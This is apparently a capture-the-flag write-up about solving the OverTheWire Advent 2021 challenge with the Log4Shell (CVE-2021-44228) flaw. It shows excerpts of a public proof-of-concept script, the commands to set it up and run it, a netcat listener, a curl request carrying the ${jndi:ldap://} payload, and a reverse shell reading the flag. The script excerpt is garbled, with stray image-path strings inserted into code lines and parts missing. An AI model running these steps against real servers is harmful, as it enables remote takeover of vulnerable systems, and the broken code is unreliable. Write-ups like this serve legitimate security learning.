defpayload(userip: str, webport: int, lport: int) -> None:
    generate_payload(userip, lport)

    print(Fore.GREEN + '[+] Setting up LDAP server\n')

    # create the LDAP server on new thread
    t1 = threading.Thread(target=ldap_server, args=(userip, webport))

    # start the web server
    print(f"[+] Starting Webserver on port {webport}{webport}")
    httpd = HTTPServer(('', webport), SimpleHTTPRequestHandler)

def check_java() -> bool:
    exit_code = subprocess.call([
        os.path.join(CUR_FOLDER, 'jdk1.8.0_20/bin/java'),
    ], stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    return exit_code == 0

def ldap_server(userip: str, lport: int) -> None:
    sendme = "${jndi:ldap://%s:1389/a}" % (userip)
    print(Fore.GREEN + f"[+] Send me: {sendme}\n")

    url = "http://{}:{}/#Exploit".format(userip, lport)
        os.path.join(CUR_FOLDER, "jdk1.8.0_20/bin/java"),
        os.path.join(CUR_FOLDER, "target/marshalsec-0.0.3-SNAPSHOT-all.jar"),

def main() -> None:print(Fore.BLUE + """
[!] CVE: CVE-2021-44228
[!] Github repo: https://github.com/kozmer/log4j-shell-poc

    parser = argparse.ArgumentParser(description='log4shell PoC')
                        help='Enter IP for LDAPRefServer & Shell')
                        help='listener port for HTTP port')
                        help='Netcat Port')

    args = parser.parse_args()

        if not check_java():
            print(Fore.RED + '[-] Java is not installed inside the repository')
            raise SystemExit(1)
        payload(args.userip, args.webport, args.lport)
    except KeyboardInterrupt:
        print(Fore.RED + "user interupted the program.")
        raise SystemExit(0)

if __name__ == "__main__":

After quickly reading through the script we realised that it just automates the exact same things we tried to do manually. It generates an Exploit.java and compiles it into an Exploit.class that is hosted by a http server. It also uses the marshalsec to redirect that first JNDI call to the web server. It seems it’s using another Java version than we did manually and the Exploit.java is another variant.

Let’s try it out:

root@localhost:~# git clone https://github.com/kozmer/log4j-shell-poc
Cloning into 'log4j-shell-poc'...remote: Enumerating objects: 198, done.
remote: Counting objects: 100% (195/195), done.
remote: Compressing objects: 100% (112/112), done.
remote: Total 198 (delta 71), reused 166 (delta 65), pack-reused 3
Receiving objects: 100% (198/198), 40.36 MiB | 24.67 MiB/s, done.
Resolving deltas: 100% (71/71), done.
root@localhost:~# cd log4j-shell-poc
root@localhost:~/log4j-shell-poc# pip install -r requirements.txt
Requirement already satisfied: colorama in /usr/local/lib/python3.9/dist-packages (from -r requirements.txt (line 1)) (0.4.4)
Collecting argparse
  Using cached argparse-1.4.0-py2.py3-none-any.whl (23 kB)
Installing collected packages: argparse
Successfully installed argparse-1.4.0

After cloning it from github and installing the required libs you need to put a JDK in the same directory and name it jdk1.8.0_20 It can be downloaded from Oracle but you need to register an account before downloading. When everything is in place just make sure it looks like this:

root@localhost:~/log4j-shell-poc# ls
Dockerfile     README.md    requirements.txt
Exploit.class  jdk1.8.0_20  target
Exploit.java   poc.py       vulnerable-application

Now everything is ready to use. Let’s start the automated PoC. The parameter –userip should be your public available ip and –lport is where we will start up netcat for our reverse shell.

root@localhost:~/log4j-shell-poc# python3 poc.py --userip  --webport 8000 --lport 1337

[!] CVE: CVE-2021-44228
[!] Github repo: https://github.com/kozmer/log4j-shell-poc[+] Exploit java class created success
[+] Setting up LDAP server

[+] Send me: ${jndi:ldap://}
[+] Starting Webserver on port 8000

Listening on

That’s it. We can now use the payload ${jndi:ldap://} to make our target contact us. Then it will be redirected to where our Exploit.class is served. When Exploit.class is downloaded and executed it will spawn a reverse shell to so let’s start up a listener:

root@localhost:~# nc -lvnp 1337
listening on [any] 1337 ...

Our listener is ready and listening, it’s time to fire of our payload:

~/ curl -X POST http://grinch-petition.advent2021.overthewire.org:1214/signPetition -d "name=hacker" -d 'message=hacking' -d 'recipient=${jndi:ldap://}'

It hangs…. let’s check out our listener.

root@localhost:~# nc -lvnp 1337
listening on [any] 1337 ...
connect to [] from (UNKNOWN) [] 41982
ls -la
total 68
drwxr-xr-x    1 root     root          4096 Dec 21 16:30 .
drwxr-xr-x    1 root     root          4096 Dec 21 16:30 ..
-rwxr-xr-x    1 root     root             0 Dec 21 16:30 .dockerenv
drwxr-xr-x    1 root     root          4096 Dec 21 16:29 app
drwxr-xr-x    2 root     root          4096 Dec 20  2018 bin
drwxr-xr-x    5 root     root           340 Dec 21 16:30 dev
drwxr-xr-x    1 root     root          4096 Dec 21 16:30 etc
-rw-rw-r--    1 root     root            28 Dec 21 16:25 flag.txt
drwxr-xr-x    2 root     root          4096 Dec 20  2018 home
drwxr-xr-x    1 root     root          4096 Dec 21  2018 lib
drwxr-xr-x    5 root     root          4096 Dec 20  2018 media
drwxr-xr-x    2 root     root          4096 Dec 20  2018 mnt
dr-xr-xr-x 3068 root     root             0 Dec 21 16:30 proc
drwx---    2 root     root          4096 Dec 20  2018 root
drwxr-xr-x    2 root     root          4096 Dec 20  2018 run
drwxr-xr-x    2 root     root          4096 Dec 20  2018 sbin
drwxr-xr-x    2 root     root          4096 Dec 20  2018 srv
dr-xr-xr-x   13 root     root             0 Dec 21 16:30 sys
drwxrwxrwt    1 root     root          4096 Dec 21 16:30 tmp
drwxr-xr-x    1 root     root          4096 Dec 21  2018 usr
drwxr-xr-x    1 root     root          4096 Dec 20  2018 var
cat flag.txt

YES! We have a reverse shell and the flag is in /flag.txt. Mission accomplished.Many thank’s to the organizers for putting in a vulnerability that is just a few days old. My guess is that this challenge should have been something else completly. But with that complete shitstorm that came out ofCVE-2021-44228 it was a really cool idea to put it in the CTF.

We finished this challenge as one of the top 10 teams. But we could probably have been top 3 here if we had checked out that Burp Suite problem early on. So there’s something to learn here. If you see an error message that you do not recognize you should ALWAYS study it closer before you proceed with other things.

CTF:s sometimes get you stressed up and you deviate from your usual pentesting path. When time is a more important factor than complete coverage and documentation you take other paths. This was an awsome fun challenge like most of the challenges this year. You can read more aboutthe competition over at ctftime.org Perhaps we will publish some morewriteups from this CTF, until then:


We wish you a Merry Christmas and Happy Hacking!

/Christian (f1rstr3am)